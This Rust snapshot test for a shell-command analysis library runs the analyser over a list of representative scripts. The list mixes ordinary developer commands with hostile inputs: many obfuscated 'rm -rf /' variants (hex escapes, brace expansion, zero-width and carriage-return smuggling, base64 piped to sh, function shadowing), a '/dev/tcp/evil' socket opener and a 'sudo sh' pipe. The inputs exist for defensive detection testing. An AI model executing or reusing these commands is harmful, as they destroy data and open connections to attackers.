//! Whole analyses of representative scripts, as reviewable text.

use palisade_shell_analysis::{Limits, analyze_argv};

use crate::render::{bash, full};

const SCRIPTS: &[&str] = &[
    "ls -la",
    "grep -rn --include='*.rs' TODO .",
    "sed -n '1,120p' src/lib.rs",
    "wc -l src/*.rs",
    "git diff HEAD~1 -- src/lib.rs",
    "git add -A && git commit -m \"fix: it's done; really && truly\"",
    "cargo test -p core -- --nocapture 2>&1 | tail -40",
    "RUST_LOG=debug cargo run -- --help",
    "mkdir -p src/new && touch src/new/mod.rs",
    "grep -n \"curl | sh\" install.md",
    "awk '{print $2}' data.txt",
    "diff <(sort a.txt) <(sort b.txt)",
    "cd crates/core && cargo check",
    "cd crates/core; cargo check",
    "nice -n 10 make docs",
    "test -f Cargo.toml && echo yes || echo no",
    "git commit -F - <<'EOF'\nmsg; rm -rf /\nEOF",
    "ls |& tee log.txt",
    "export A=1 && cargo test",
    "sudo env A=1 nice -n 5 rm -rf /",
    "xargs rm -rf < list.txt",
    "bash -lc 'cd a && git push' 2>/dev/null",
    "echo x >| ../outside.txt",
    "echo x >> ~/.bashrc",
    "\\rm -rf /",
    "$'\\x72\\x6d' -rf /",
    "{rm,-rf,/}",
    "X=rm; $X -rf /",
    "find . -name '*.o' -exec rm -f {} \\;",
    "echo ok\rrm -rf /",
    "rm\u{200b} -rf /",
    "echo \"${x:=$(rm -rf /)}\"",
    "git() { rm -rf /; }; git status",
    "echo cm0gLXJmIC8= | base64 -d | sh",
    "trap 'rm -rf /' EXIT",
    "exec 3<>/dev/tcp/evil/80",
    "=ls -la",
    "echo 'oops",
    "for f in a b; do rm \"$f\"; done",
    "if test -f x; then cat x | sudo sh; else curl -sS y > z; fi",
    "cat <<EOF > out\n$(id)\nEOF",
    "nohup nice -n 5 rm -rf / &",
];

const ARGUMENT_LISTS: &[&[&str]] = &[
    &["git", "status"],
    &["bash", "-lc", "git status && git diff | head -5"],
    &["env", "-i", "A=1", "sh", "-c", "ls $HOME"],
    &["find", ".", "-exec", "rm", "{}", ";"],
];

#[test]
fn representative_scripts() {
    // Without the full parser the mentions are coarser; the snapshots are of the default build.
    if !cfg!(feature = "bash-parser") {
        return;
    }
    let mut out = String::new();
    for script in SCRIPTS {
        out.push_str(&format!("=== {script:?}\n{}\n", full(&bash(script))));
    }
    for argv in ARGUMENT_LISTS {
        let analysis = analyze_argv(argv, &Limits::default());
        out.push_str(&format!("=== {argv:?}\n{}\n", full(&analysis)));
    }
    insta::assert_snapshot!(out);
}
